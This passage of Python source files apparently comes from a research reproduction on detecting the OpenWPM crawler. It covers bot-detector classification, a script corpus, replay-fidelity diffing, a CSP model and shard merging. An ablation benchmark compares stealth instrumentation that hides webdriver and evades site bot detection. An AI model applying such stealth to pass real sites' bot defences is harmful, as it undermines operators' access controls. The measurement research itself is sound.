            .restricts_scripts()
        assert not ContentSecurityPolicy.none().restricts_scripts()

"""Combining static and dynamic evidence into site classifications.

Implements the paper's decision rules (Sec. 4.1.2-4.1.3):

* a script is *bot-detecting* when it accesses ``navigator.webdriver``
  or an OpenWPM-residue property;
* a script that touched several honey properties is an *iterator*; its
  webdriver access counts as 'inconclusive' unless static analysis
  (strict patterns) independently flags it;
* static analysis runs over every collected script after
  deobfuscation; loose pattern hits without a strict hit are potential
  false positives;
* detector origins split into first-/third-party by eTLD+1 against the
  visited site; first-party scripts are attributed to vendors by their
  URL structure (Table 12).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.core.scan.static_analysis import PatternHit, scan_script
from repro.net.url import URL, etld_plus_one

#: Honey properties a script must touch to count as an iterator.
ITERATOR_THRESHOLD = 2

#: Table 12 URL-structure signatures for first-party vendors.
_VENDOR_SIGNATURES: List[Tuple[str, re.Pattern]] = [
    ("Akamai", re.compile(r"/akam/\d+/")),
    ("Incapsula", re.compile(r"/_Incapsula_Resource")),
    ("Cloudflare", re.compile(r"/cdn-cgi/bm/cv/\d+/api\.js")),
    ("PerimeterX", re.compile(r"/[0-9a-f]{8}/init\.js")),
    ("Unknown", re.compile(
        r"/(assets|resources|public|static)/[0-9a-f]{31,34}$")),
]


def identify_first_party_vendor(script_url: str) -> Optional[str]:
    """Attribute a first-party detector script to a vendor (Table 12)."""
    try:
        path = URL.parse(script_url).path + (
            "?" if "?" in script_url else "")
    except ValueError:
        path = script_url
    full = script_url
    for vendor, signature in _VENDOR_SIGNATURES:
        if signature.search(full):
            return vendor
    return None


@dataclass
class VisitEvidence:
    """What one page visit produced, as input to classification.

    ``scripts`` carries ``(script_url, ref)`` pairs. In the pipeline
    ``ref`` is the script's sha256 content address into the
    :class:`~repro.corpus.ScriptCorpus` (pass ``corpus=`` to
    :func:`classify_site` to resolve); without a corpus ``ref`` is the
    raw source itself (the hand-built-evidence unit-test path).
    """

    page_url: str
    #: (script_url, ref) of every collected script file.
    scripts: List[Tuple[str, str]] = field(default_factory=list)
    #: script_url -> accessed navigator.webdriver?
    webdriver_accessors: Set[str] = field(default_factory=set)
    #: script_url -> set of OpenWPM residue properties accessed.
    residue_accessors: Dict[str, Set[str]] = field(default_factory=dict)
    #: script_url -> honey properties touched.
    honey_hits: Dict[str, Set[str]] = field(default_factory=dict)


@dataclass
class SiteClassification:
    """The scan's verdict for one site."""

    domain: str
    #: Any static pattern hit (including the FP-prone loose pattern).
    static_identified: bool = False
    #: Hit on a validated (strict) pattern.
    static_clean: bool = False
    #: Any dynamic access to the fingerprint surface.
    dynamic_identified: bool = False
    #: Dynamic access that is not explained away as iteration.
    dynamic_clean: bool = False
    #: OpenWPM-residue probes: property name -> probing script hosts.
    openwpm_probes: Dict[str, Set[str]] = field(default_factory=dict)
    #: Third-party detector script hosts (eTLD+1), one count per site.
    third_party_hosts: Set[str] = field(default_factory=set)
    #: First-party detector script URLs.
    first_party_scripts: List[str] = field(default_factory=list)
    first_party_vendor: Optional[str] = None
    #: Scripts classified as iterators (honey-property sweeps).
    iterator_scripts: Set[str] = field(default_factory=set)

    @property
    def identified_union(self) -> bool:
        return self.static_identified or self.dynamic_identified

    @property
    def clean_union(self) -> bool:
        return self.static_clean or self.dynamic_clean

    @property
    def has_first_party(self) -> bool:
        return bool(self.first_party_scripts)

    @property
    def has_third_party(self) -> bool:
        return bool(self.third_party_hosts)

    @property
    def probes_openwpm(self) -> bool:
        return bool(self.openwpm_probes)


def classify_site(domain: str, visits: List[VisitEvidence],
                  use_honey: bool = True,
                  preprocess_static: bool = True,
                  corpus: Optional[object] = None) -> SiteClassification:
    """Fold all visit evidence for one site into a classification.

    ``use_honey=False`` disables the honey-property iterator filter
    (every webdriver access then counts as conclusive);
    ``preprocess_static=False`` disables deobfuscation. Both are
    ablation knobs for the pipeline's design choices.

    With ``corpus`` (a :class:`repro.corpus.ScriptCorpus`), evidence
    script entries are content hashes resolved — and statically
    analysed, memoized — through the corpus; a hash the corpus does
    not hold raises :class:`repro.corpus.MissingScriptError` rather
    than silently classifying on empty sources. Without a corpus the
    entries are raw sources scanned directly.
    """
    result = SiteClassification(domain=domain)
    site_registrable = etld_plus_one(domain)

    static_hits: Dict[str, PatternHit] = {}
    for visit in visits:
        for script_url, ref in visit.scripts:
            if script_url not in static_hits:
                if corpus is not None:
                    static_hits[script_url] = corpus.scan(
                        ref, script_url, preprocess=preprocess_static)
                else:
                    static_hits[script_url] = scan_script(
                        ref, script_url, preprocess=preprocess_static)

    for script_url, hit in static_hits.items():
        if hit.any_match:
            result.static_identified = True
        if hit.strict_match:
            result.static_clean = True
            _attribute_origin(result, script_url, site_registrable)

    for visit in visits:
        for script_url in visit.webdriver_accessors:
            result.dynamic_identified = True
            honey = set()
            for evidence in visits:
                honey |= evidence.honey_hits.get(script_url, set())
            is_iterator = use_honey and len(honey) >= ITERATOR_THRESHOLD
            if is_iterator:
                result.iterator_scripts.add(script_url)
                # Inconclusive unless static analysis saw it too.
                hit = static_hits.get(script_url)
                if hit is None or not hit.strict_match:
                    continue
            result.dynamic_clean = True
            _attribute_origin(result, script_url, site_registrable)
        for script_url, props in visit.residue_accessors.items():
            result.dynamic_identified = True
            result.dynamic_clean = True
            for prop in props:
                result.openwpm_probes.setdefault(prop, set()).add(
                    _host_of(script_url))
            _attribute_origin(result, script_url, site_registrable)

    for script_url in result.first_party_scripts:
        vendor = identify_first_party_vendor(script_url)
        if vendor is not None:
            result.first_party_vendor = vendor
            break
    if result.first_party_scripts and result.first_party_vendor is None:
        result.first_party_vendor = "Custom"
    return result


def _host_of(script_url: str) -> str:
    try:
        return URL.parse(script_url).host
    except ValueError:
        return script_url


def _attribute_origin(result: SiteClassification, script_url: str,
                      site_registrable: str) -> None:
    if not script_url.startswith(("http://", "https://")):
        return
    host = _host_of(script_url)
    if etld_plus_one(host) == site_registrable:
        if script_url not in result.first_party_scripts:
            result.first_party_scripts.append(script_url)
    else:
        result.third_party_hosts.add(etld_plus_one(host))

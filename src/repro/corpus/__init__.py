"""Content-addressed script corpus with memoized static analysis.

At Tranco scale the same third-party detector script is fetched and
re-analysed thousands of times; the corpus stores each unique script
body exactly once (sha256 key, zlib-compressed) and memoizes the
static-analysis verdict per ``(script_hash, pattern_set_version,
preprocess)`` so repeat classification — and every ``reclassify``
ablation — resolves through a cache instead of re-scanning sources.
"""

from repro.corpus.store import (
    DEFAULT_ZLEVEL,
    MissingScriptError,
    ScriptCorpus,
    SiteBatch,
    corpus_path_for,
    script_hash,
    zlevel_from_env,
)

__all__ = [
    "DEFAULT_ZLEVEL",
    "MissingScriptError",
    "ScriptCorpus",
    "SiteBatch",
    "corpus_path_for",
    "script_hash",
    "zlevel_from_env",
]

"""Fidelity diffing: score a replay against its source recording.

``repro fidelity <original> <replay>`` compares two bundles — the
archive produced by the original crawl and the one produced by
re-recording its replay (``--replay old --record new``). Three axes,
weighted into one per-site score:

* **resources** (0.4) — every fetch in the original matched by URL and
  byte-identical content in the replay. Unmatched originals are
  *missing*, replay-only fetches are *extra*, same-URL different-bytes
  pairs are *mutated* and carry both content hashes so a tampered
  script is named by its sha256.
* **trace** (0.4) — the JS-call traces compared element-wise; scored
  by longest common prefix. The first divergent operation is
  attributed to the executing script's content hash (via the visit's
  url→source map) and function (innermost stack frame).
* **verdict** (0.2) — detector classifications equal or not, with the
  changed top-level fields listed.

A perfect replay scores 1.0 everywhere and the report says
``zero_diffs: true``; anything else pinpoints where the archive and
the re-execution parted ways.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.bundles.bundle import Bundle, BundleVisit
from repro.bundles.codec import canonical_json, trace_record_fields

WEIGHT_RESOURCES = 0.4
WEIGHT_TRACE = 0.4
WEIGHT_VERDICT = 0.2


# ----------------------------------------------------------------------
# Resource extraction
# ----------------------------------------------------------------------
def _content_ref(chain: List[dict]) -> Optional[str]:
    """The primary content address served by one hop chain."""
    response = chain[-1].get("response") or {}
    script = response.get("script")
    if script and script.get("source_ref"):
        return str(script["source_ref"])
    if response.get("body_ref"):
        return str(response["body_ref"])
    page = response.get("page")
    if page:
        for item in page.get("items", []):
            if item.get("kind") == "script" and item.get("source_ref"):
                return str(item["source_ref"])
    return None


def _visit_resources(visit: BundleVisit
                     ) -> Dict[str, List[Tuple[str, Optional[str]]]]:
    """Map fetch URL -> ordered [(chain signature, content ref)]."""
    out: Dict[str, List[Tuple[str, Optional[str]]]] = {}
    for exchange in visit.exchanges:
        chain = exchange.get("hops") or []
        if not chain:
            continue
        first = chain[0].get("request") or {}
        url = str(first.get("url", ""))
        out.setdefault(url, []).append(
            (canonical_json(chain), _content_ref(chain)))
    return out


def _script_sources(visit: BundleVisit) -> Dict[str, str]:
    """Map script URL -> content hash, for trace attribution."""
    sources: Dict[str, str] = {}
    for exchange in visit.exchanges:
        chain = exchange.get("hops") or []
        for hop in chain:
            response = hop.get("response") or {}
            script = response.get("script")
            if script and script.get("source_ref"):
                sources[str(script.get("url", ""))] = \
                    str(script["source_ref"])
            page = response.get("page")
            if page:
                for item in page.get("items", []):
                    if (item.get("kind") == "script"
                            and item.get("source_ref")):
                        sources[str(item.get("src", ""))] = \
                            str(item["source_ref"])
    return sources


def _diff_resources(original: BundleVisit, replay: BundleVisit) -> dict:
    orig = _visit_resources(original)
    repl = _visit_resources(replay)
    missing: List[dict] = []
    extra: List[dict] = []
    mutated: List[dict] = []
    matched = 0
    total = 0
    for url, chains in orig.items():
        other = list(repl.get(url, []))
        for sig, ref in chains:
            total += 1
            hit = next((i for i, (osig, _) in enumerate(other)
                        if osig == sig), None)
            if hit is not None:
                matched += 1
                other.pop(hit)
            elif other:
                _, other_ref = other.pop(0)
                mutated.append({"url": url, "original_hash": ref,
                                "replay_hash": other_ref})
            else:
                missing.append({"url": url, "original_hash": ref})
        for _, leftover_ref in other:
            extra.append({"url": url, "replay_hash": leftover_ref})
    for url, chains in repl.items():
        if url not in orig:
            for _, ref in chains:
                extra.append({"url": url, "replay_hash": ref})
    total = max(total, total + len(extra))
    score = 1.0 if total == 0 else matched / total
    return {"matched": matched, "total": total, "missing": missing,
            "extra": extra, "mutated": mutated, "score": score}


# ----------------------------------------------------------------------
# Trace comparison
# ----------------------------------------------------------------------
def _frame_function(call_stack: str) -> str:
    first = (call_stack or "").split("\n", 1)[0]
    return first.split("@", 1)[0]


def _diff_trace(original: BundleVisit, replay: BundleVisit) -> dict:
    a, b = original.trace, replay.trace
    limit = min(len(a), len(b))
    prefix = 0
    while prefix < limit and a[prefix] == b[prefix]:
        prefix += 1
    longest = max(len(a), len(b))
    score = 1.0 if longest == 0 else prefix / longest
    divergence = None
    if prefix < longest:
        entry = a[prefix] if prefix < len(a) else b[prefix]
        fields = trace_record_fields(entry)
        sources = _script_sources(original)
        divergence = {
            "index": prefix,
            "symbol": fields.get("symbol"),
            "operation": fields.get("operation"),
            "script_url": fields.get("script_url"),
            "script_hash": sources.get(str(fields.get("script_url"))),
            "function": _frame_function(str(fields.get("call_stack",
                                                       ""))),
            "original": trace_record_fields(a[prefix])
            if prefix < len(a) else None,
            "replay": trace_record_fields(b[prefix])
            if prefix < len(b) else None,
        }
    return {"length_original": len(a), "length_replay": len(b),
            "common_prefix": prefix, "divergence": divergence,
            "score": score}


# ----------------------------------------------------------------------
# Verdict comparison
# ----------------------------------------------------------------------
def _diff_verdict(original: Optional[dict],
                  replay: Optional[dict]) -> dict:
    equal = canonical_json(original) == canonical_json(replay)
    changed: List[str] = []
    if not equal:
        keys = set()
        for verdict in (original, replay):
            if isinstance(verdict, dict):
                keys.update(verdict)
        for key in sorted(keys):
            left = (original or {}).get(key) if isinstance(
                original, dict) else None
            right = (replay or {}).get(key) if isinstance(
                replay, dict) else None
            if canonical_json(left) == canonical_json(right):
                continue
            if isinstance(left, dict) and isinstance(right, dict):
                subkeys = sorted(set(left) | set(right))
                changed.extend(
                    f"{key}.{sub}" for sub in subkeys
                    if canonical_json(left.get(sub))
                    != canonical_json(right.get(sub)))
            else:
                changed.append(key)
    return {"equal": equal, "changed": changed,
            "score": 1.0 if equal else 0.0}


# ----------------------------------------------------------------------
# Whole-bundle diff
# ----------------------------------------------------------------------
def _diff_site(site: str, original: Bundle, replay: Bundle) -> dict:
    orig_visits = original.visits(site)
    repl_visits = replay.visits(site)
    resource = {"matched": 0, "total": 0, "missing": [], "extra": [],
                "mutated": [], "score": 1.0}
    trace = {"length_original": 0, "length_replay": 0,
             "common_prefix": 0, "divergence": None, "score": 1.0}
    res_scores: List[float] = []
    trace_scores: List[float] = []
    first_trace_div = None
    shared = min(len(orig_visits), len(repl_visits))
    for index in range(shared):
        rdiff = _diff_resources(orig_visits[index], repl_visits[index])
        tdiff = _diff_trace(orig_visits[index], repl_visits[index])
        res_scores.append(rdiff["score"])
        trace_scores.append(tdiff["score"])
        resource["matched"] += rdiff["matched"]
        resource["total"] += rdiff["total"]
        for field in ("missing", "extra", "mutated"):
            for item in rdiff[field]:
                resource[field].append(dict(item, visit_index=index))
        trace["length_original"] += tdiff["length_original"]
        trace["length_replay"] += tdiff["length_replay"]
        trace["common_prefix"] += tdiff["common_prefix"]
        if first_trace_div is None and tdiff["divergence"]:
            first_trace_div = dict(tdiff["divergence"],
                                   visit_index=index)
    visit_mismatch = len(orig_visits) != len(repl_visits)
    if visit_mismatch:
        # Unpaired visits are wholesale misses on both axes.
        for _ in range(abs(len(orig_visits) - len(repl_visits))):
            res_scores.append(0.0)
            trace_scores.append(0.0)
    resource["score"] = (sum(res_scores) / len(res_scores)
                         if res_scores else 1.0)
    trace["score"] = (sum(trace_scores) / len(trace_scores)
                      if trace_scores else 1.0)
    trace["divergence"] = first_trace_div
    verdict = _diff_verdict(original.verdict(site), replay.verdict(site))
    fidelity = (WEIGHT_RESOURCES * resource["score"]
                + WEIGHT_TRACE * trace["score"]
                + WEIGHT_VERDICT * verdict["score"])
    clean = (not visit_mismatch and not resource["missing"]
             and not resource["extra"] and not resource["mutated"]
             and trace["divergence"] is None and verdict["equal"])
    return {
        "site": site,
        "fidelity": round(fidelity, 6),
        "clean": clean,
        "visits_original": len(orig_visits),
        "visits_replay": len(repl_visits),
        "resources": resource,
        "trace": trace,
        "verdict": verdict,
    }


def diff_bundles(original: Bundle, replay: Bundle) -> dict:
    """Compare two bundles site-by-site; see the module docstring."""
    orig_sites = original.recorded_sites()
    repl_sites = set(replay.recorded_sites())
    shared = [site for site in orig_sites if site in repl_sites]
    missing_sites = [site for site in orig_sites
                     if site not in repl_sites]
    extra_sites = [site for site in replay.recorded_sites()
                   if site not in set(orig_sites)]
    site_diffs = [_diff_site(site, original, replay)
                  for site in shared]
    scores = ([diff["fidelity"] for diff in site_diffs]
              + [0.0] * (len(missing_sites) + len(extra_sites)))
    zero_diffs = (not missing_sites and not extra_sites
                  and all(diff["clean"] for diff in site_diffs))
    return {
        "original": original.path,
        "replay": replay.path,
        "sites_compared": len(site_diffs),
        "missing_sites": missing_sites,
        "extra_sites": extra_sites,
        "mean_fidelity": round(sum(scores) / len(scores), 6)
        if scores else 1.0,
        "zero_diffs": zero_diffs,
        "sites": site_diffs,
    }


# ----------------------------------------------------------------------
# Rendering
# ----------------------------------------------------------------------
def render_fidelity_report(report: dict) -> str:
    from repro.analysis.charts import render_table

    lines = ["Replay fidelity report",
             "======================",
             f"original : {report['original']}",
             f"replay   : {report['replay']}",
             f"sites    : {report['sites_compared']} compared, "
             f"{len(report['missing_sites'])} missing, "
             f"{len(report['extra_sites'])} extra",
             f"fidelity : mean {report['mean_fidelity']:.4f} — "
             + ("ZERO DIFFS" if report["zero_diffs"]
                else "DIVERGENCES FOUND"),
             ""]
    rows = []
    for diff in report["sites"]:
        resources = diff["resources"]
        problems = []
        if resources["missing"]:
            problems.append(f"{len(resources['missing'])} missing")
        if resources["extra"]:
            problems.append(f"{len(resources['extra'])} extra")
        if resources["mutated"]:
            problems.append(f"{len(resources['mutated'])} mutated")
        if diff["trace"]["divergence"]:
            problems.append("trace diverged")
        if not diff["verdict"]["equal"]:
            problems.append("verdict flipped")
        rows.append([diff["site"], f"{diff['fidelity']:.4f}",
                     f"{resources['matched']}/{resources['total']}",
                     f"{diff['trace']['common_prefix']}/"
                     f"{diff['trace']['length_original']}",
                     "yes" if diff["verdict"]["equal"] else "NO",
                     "; ".join(problems) or "-"])
    lines.extend(render_table(
        ["site", "fidelity", "resources", "trace", "verdict", "diffs"],
        rows))
    detail: List[str] = []
    for diff in report["sites"]:
        for item in diff["resources"]["mutated"]:
            detail.append(
                f"  mutated  {diff['site']} visit "
                f"{item['visit_index']}: {item['url']}\n"
                f"           original {item['original_hash']}\n"
                f"           replay   {item['replay_hash']}")
        for item in diff["resources"]["missing"]:
            detail.append(f"  missing  {diff['site']} visit "
                          f"{item['visit_index']}: {item['url']}")
        divergence = diff["trace"]["divergence"]
        if divergence:
            detail.append(
                f"  trace    {diff['site']} visit "
                f"{divergence['visit_index']} op {divergence['index']}: "
                f"{divergence['symbol']} ({divergence['operation']}) in "
                f"{divergence['function'] or '<top>'} of "
                f"{divergence['script_url']} "
                f"[script_hash={divergence['script_hash']}]")
        if diff["verdict"]["changed"]:
            detail.append(f"  verdict  {diff['site']}: "
                          + ", ".join(diff["verdict"]["changed"]))
    if detail:
        lines.append("")
        lines.append("Divergences")
        lines.append("-----------")
        lines.extend(detail)
    for site in report["missing_sites"]:
        lines.append(f"  site missing from replay: {site}")
    for site in report["extra_sites"]:
        lines.append(f"  site only in replay: {site}")
    return "\n".join(lines) + "\n"

"""Ablation: instrumentation strategies (Sec. 6 vs Sec. 8 outlook).

Compares four ways of recording JavaScript calls on the same workload:

* vanilla OpenWPM (page-context wrappers, vulnerable),
* WPM_hide (exported wrappers, hardened),
* debugger-level (engine hooks — the paper's 'towards robust
  instrumentation' recommendation),
* none (baseline for the fingerprint surface).

Reported per strategy: detector verdict, number of page-visible
tampered properties, records captured on a probing workload, and
whether the Listing 2/3 attacks bite.
"""

from conftest import report

WORKLOAD = """
navigator.userAgent;
screen.availLeft;
var ifr = document.createElement('iframe');
document.body.appendChild(ifr);
ifr.contentWindow.screen.availLeft;
"""


def _run_strategy(strategy):
    from repro.browser.profiles import openwpm_profile, \
        stock_firefox_profile
    from repro.core.attacks import run_block_recording_attack
    from repro.core.fingerprint import OpenWPMDetector, capture_template, \
        diff_templates
    from repro.core.hardening import (
        DebuggerJSInstrument,
        StealthJSInstrument,
        StealthSettings,
    )
    from repro.core.lab import make_window, visit_with_scripts
    from repro.openwpm import BrowserParams, OpenWPMExtension

    settings = StealthSettings.plausible()
    stealth_profile = dict(window_size=settings.window_size,
                           window_position=settings.window_position)
    if strategy == "vanilla":
        extension = OpenWPMExtension(BrowserParams())
        profile = openwpm_profile("ubuntu", "regular")
    elif strategy == "wpm_hide":
        extension = OpenWPMExtension(BrowserParams(stealth=True),
                                     js_instrument=StealthJSInstrument())
        profile = openwpm_profile("ubuntu", "regular", **stealth_profile)
    elif strategy == "debugger":
        extension = OpenWPMExtension(
            BrowserParams(stealth=True),
            js_instrument=DebuggerJSInstrument(hide_webdriver=True))
        profile = openwpm_profile("ubuntu", "regular", **stealth_profile)
    else:  # none
        extension = None
        profile = openwpm_profile("ubuntu", "regular", **stealth_profile)

    _, window = make_window(profile, extension=extension)
    detected = OpenWPMDetector().test_window(window).is_openwpm

    _, plain = make_window(openwpm_profile("ubuntu", "regular",
                                           **stealth_profile))
    tampered = len(diff_templates(
        capture_template(plain), capture_template(window))
        .tampered_functions())

    records = 0
    iframe_covered = False
    block_attack = None
    if extension is not None:
        extension.js_instrument.clear_records()
        extension2 = type(extension)(
            extension.params, js_instrument=type(
                extension.js_instrument)())
        _, result = visit_with_scripts(profile, [WORKLOAD],
                                       extension=extension2)
        symbols = [s.lower()
                   for s in extension2.js_instrument.symbols_accessed()]
        records = len(symbols)
        iframe_covered = symbols.count("screen.availleft") >= 2
        stealth = strategy != "vanilla"
        block_attack = run_block_recording_attack(stealth=stealth) \
            if strategy != "debugger" else None
    return {
        "detected": detected,
        "tampered": tampered,
        "records": records,
        "iframe_covered": iframe_covered,
        "block_attack_succeeds":
            block_attack.succeeded if block_attack else False,
    }


def test_benchmark_instrumentation_ablation(benchmark):
    strategies = ["vanilla", "wpm_hide", "debugger", "none"]

    def run_all():
        return {name: _run_strategy(name) for name in strategies}

    results = benchmark.pedantic(run_all, rounds=1, iterations=1)

    lines = ["| strategy | detected | page-visible tampering | "
             "records | iframe covered | Listing-2 attack |",
             "|---|---|---|---|---|---|"]
    for name in strategies:
        r = results[name]
        lines.append(f"| {name} | {r['detected']} | {r['tampered']} | "
                     f"{r['records']} | {r['iframe_covered']} | "
                     f"{'succeeds' if r['block_attack_succeeds'] else 'fails/NA'} |")
    report("ablation_instrumentation",
           "Ablation - instrumentation strategies", lines)

    assert results["vanilla"]["detected"] is True
    assert results["vanilla"]["tampered"] > 200
    assert results["vanilla"]["block_attack_succeeds"] is True
    assert results["vanilla"]["iframe_covered"] is False

    assert results["wpm_hide"]["detected"] is False
    assert results["wpm_hide"]["tampered"] == 0
    assert results["wpm_hide"]["iframe_covered"] is True

    assert results["debugger"]["detected"] is False
    assert results["debugger"]["tampered"] == 0
    assert results["debugger"]["iframe_covered"] is True
    assert results["debugger"]["records"] > 0

    assert results["none"]["records"] == 0

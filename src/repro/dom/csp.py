"""Content Security Policy.

The paper (Sec. 5.1.2) shows that a site's ``script-src`` directive
blocks OpenWPM's instrumentation, because the vanilla instrument injects
an inline ``<script>`` element into the page. The hardened instrument
avoids DOM injection entirely and is therefore unaffected (Sec. 6.2.1);
the drop in ``csp_report`` traffic is the headline row of Table 8.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.net.url import URL


@dataclass
class ContentSecurityPolicy:
    """A parsed CSP with the directives the simulation honours."""

    #: Allowed script sources; None means no script-src directive.
    script_src: Optional[List[str]] = None
    report_uri: Optional[str] = None
    raw: str = ""

    @classmethod
    def parse(cls, header: str) -> "ContentSecurityPolicy":
        """Parse a ``Content-Security-Policy`` header value."""
        policy = cls(raw=header)
        for directive in header.split(";"):
            directive = directive.strip()
            if not directive:
                continue
            parts = directive.split()
            name, values = parts[0].lower(), parts[1:]
            if name == "script-src":
                policy.script_src = values
            elif name in ("report-uri", "report-to"):
                policy.report_uri = values[0] if values else None
        return policy

    @classmethod
    def none(cls) -> "ContentSecurityPolicy":
        """No policy: everything is allowed."""
        return cls()

    # ------------------------------------------------------------------
    def restricts_scripts(self) -> bool:
        return self.script_src is not None

    def allows_inline_script(self) -> bool:
        """Inline <script> elements (including extension-injected ones)."""
        if self.script_src is None:
            return True
        return "'unsafe-inline'" in self.script_src

    def allows_script_url(self, script_url: URL, page_url: URL) -> bool:
        if self.script_src is None:
            return True
        for source in self.script_src:
            if source == "'self'":
                if script_url.host == page_url.host:
                    return True
            elif source in ("'none'", "'unsafe-inline'"):
                continue
            elif source == "*":
                return True
            elif source.startswith("*."):
                if script_url.host.endswith(source[1:]):
                    return True
            else:
                host = source.split("://")[-1].rstrip("/")
                if script_url.host == host:
                    return True
        return False

    def allows_eval(self) -> bool:
        if self.script_src is None:
            return True
        return "'unsafe-eval'" in self.script_src


@dataclass
class CSPViolation:
    """A violation record; reported via a ``csp_report`` request."""

    page_url: URL
    directive: str
    blocked: str
    report_uri: Optional[str] = None
    extra: dict = field(default_factory=dict)

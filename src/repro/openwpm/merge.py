"""Deterministic merge of per-worker shard databases.

The second half of ``--shard-dbs`` (see
:mod:`repro.openwpm.storage_shard`): fold N shard databases into the
canonical crawl database so the result is byte-identical to what the
single-writer broker path would have produced — same visit ids, same
AUTOINCREMENT ledger ids, same content first-seen positions, same
rollup state.

Ordering rules (the whole determinism argument):

1. Attempt rows from every shard are sorted globally by
   ``(job_id, attempts)`` — the broker applies final verdicts in strict
   job-id order, and a job's retries precede its final by attempt
   number. Ties (possible only under supervision races) break by
   source (worker shards before the coordinator shard), then shard
   index, then seq — all deterministic inputs.
2. Among applied *final* rows of one job (complete/terminal), exactly
   one winner is folded in full: ``complete`` beats ``terminal``, then
   the higher attempt wins, then the source/shard/seq tiebreak. The
   queue enforces at most one applied final per job, so a duplicate can
   only arise from a crash in the provisional window — the winner rule
   makes even that deterministic, and the loser degrades to a
   content-only import (content is hash-deduplicated, so this is
   lossless and idempotent).
3. Voided rows (``applied = 0`` — the attempt lost its lease race)
   contribute *only* their content range, mirroring the broker, which
   discards a voided envelope's visits but never deletes its imported
   content.
4. Retry rows (``kind = 'retry'``) are folded in full at their
   ``(job_id, attempts)`` slot: crash residue of a retried attempt is
   part of the record, exactly as the broker imports it on arrival.

A merge into a canonical database that already has data (a ``--resume``
across shard sets) first wipes the raw tables, resets the visit-id and
AUTOINCREMENT counters, and rebuilds the (empty) rollups — the
generation moves forward, never back — then folds *all* shard rows from
scratch. This makes resumed sharded crawls byte-identical to a clean
inline run of the full site list (a stronger guarantee than the broker
path, whose resumed row order depends on which jobs ran first);
``rollups_meta`` alone is volatile across that comparison, as
documented in :mod:`repro.serve.rollups`.
"""

from __future__ import annotations

import sqlite3
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from repro.openwpm.storage import StorageController
from repro.openwpm.storage_shard import (
    read_shard_jobs,
    resolve_provisional,
)


@dataclass
class MergeReport:
    """What one merge run folded."""

    shards: int = 0
    attempts_applied: int = 0
    attempts_voided: int = 0
    attempts_unresolved: int = 0
    attempts_demoted: int = 0
    visits_imported: int = 0
    content_rows: int = 0
    ledger_rows: int = 0
    wiped: bool = False
    per_shard: Dict[str, int] = field(default_factory=dict)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "shards": self.shards,
            "attempts_applied": self.attempts_applied,
            "attempts_voided": self.attempts_voided,
            "attempts_unresolved": self.attempts_unresolved,
            "attempts_demoted": self.attempts_demoted,
            "visits_imported": self.visits_imported,
            "content_rows": self.content_rows,
            "ledger_rows": self.ledger_rows,
            "wiped": self.wiped,
            "per_shard": dict(self.per_shard),
        }


def _order_key(row: Dict[str, Any]) -> Tuple:
    # Coordinator-shard rows (reclaim terminals) sort after worker rows
    # at the same (job_id, attempts): a worker's applied verdict is the
    # one the broker path would have landed.
    return (int(row["job_id"]), int(row["attempts"]),
            0 if row["_source"] == "worker" else 1,
            int(row["_shard"]), int(row["seq"]))


def _final_rank(row: Dict[str, Any]) -> Tuple:
    """Higher tuple wins among applied finals of one job."""
    return (1 if row["kind"] == "complete" else 0,
            int(row["attempts"]),
            1 if row["_source"] == "worker" else 0,
            -int(row["_shard"]), -int(row["seq"]))


def _collect_rows(shard_paths: List[str], queue: Optional[Any],
                  report: MergeReport) -> List[Dict[str, Any]]:
    rows: List[Dict[str, Any]] = []
    for index, path in enumerate(shard_paths):
        source, shard_rows = read_shard_jobs(path)
        report.per_shard[path] = len(shard_rows)
        for row in shard_rows:
            row["_shard"] = index
            row["_path"] = path
            row["_source"] = source
            if row["applied"] is None:
                # A worker died inside the provisional window and was
                # never respawned. With the queue at hand the status is
                # authoritative; without it, skip — the data rows stay
                # in the shard and a queue-aware merge can recover them.
                if queue is not None:
                    row["applied"] = 1 if resolve_provisional(row, queue) \
                        else 0
                else:
                    report.attempts_unresolved += 1
                    continue
            rows.append(row)
    rows.sort(key=_order_key)

    # Winner rule: at most one applied final per job folds in full.
    best: Dict[int, Tuple] = {}
    for row in rows:
        if row["applied"] and row["kind"] in ("complete", "terminal"):
            rank = _final_rank(row)
            if rank > best.get(int(row["job_id"]), ()):
                best[int(row["job_id"])] = rank
    for row in rows:
        if row["applied"] and row["kind"] in ("complete", "terminal") \
                and _final_rank(row) != best[int(row["job_id"])]:
            row["_demoted"] = True
            report.attempts_demoted += 1
    return rows


class _ShardReader:
    """Range reads against one shard file (read-only)."""

    def __init__(self, path: str) -> None:
        # Not mode=ro: a SIGKILLed worker leaves a WAL tail whose
        # recovery needs write access on first open.
        self.connection = sqlite3.connect(path)
        self.connection.row_factory = sqlite3.Row

    def visits(self, lo: int, hi: int) -> List[Dict[str, Any]]:
        out = []
        for visit_row in self.connection.execute(
                "SELECT * FROM site_visits WHERE visit_id > ? "
                "AND visit_id <= ? ORDER BY visit_id", (lo, hi)):
            tables: Dict[str, List[Tuple]] = {}
            for table in ("http_requests", "http_responses",
                          "javascript", "javascript_cookies"):
                cols = ", ".join(
                    StorageController._BATCHED_COLUMNS[table])
                tables[table] = [tuple(r) for r in self.connection.execute(
                    f"SELECT {cols} FROM {table} "  # noqa: S608
                    f"WHERE visit_id = ? ORDER BY id",
                    (visit_row["visit_id"],))]
            out.append({"visit_id": int(visit_row["visit_id"]),
                        "browser_id": int(visit_row["browser_id"]),
                        "site_url": visit_row["site_url"],
                        "run_label": visit_row["run_label"] or "",
                        "tables": tables})
        return out

    def content(self, lo: int, hi: int) -> List[Tuple]:
        return [tuple(r)[1:] for r in self.connection.execute(
            "SELECT rowid, content_hash, content, url, content_type "
            "FROM content WHERE rowid > ? AND rowid <= ? "
            "ORDER BY rowid", (lo, hi))]

    def ledger(self, table: str, lo: int, hi: int) -> List[Tuple]:
        cols = ", ".join(StorageController._LEDGER_COLUMNS[table])
        return [tuple(r) for r in self.connection.execute(
            f"SELECT {cols} FROM {table} "  # noqa: S608
            f"WHERE id > ? AND id <= ? ORDER BY id", (lo, hi))]

    def close(self) -> None:
        self.connection.close()


def merge_shards(shard_paths: List[str],
                 database_path: Optional[str] = None, *,
                 controller: Optional[Any] = None,
                 queue: Optional[Any] = None) -> MergeReport:
    """Fold *shard_paths* into the canonical database.

    Pass either *database_path* (a path this function opens and
    closes) or an already-open *controller* (the end-of-crawl merge
    folds straight into the coordinator's manager storage, so the
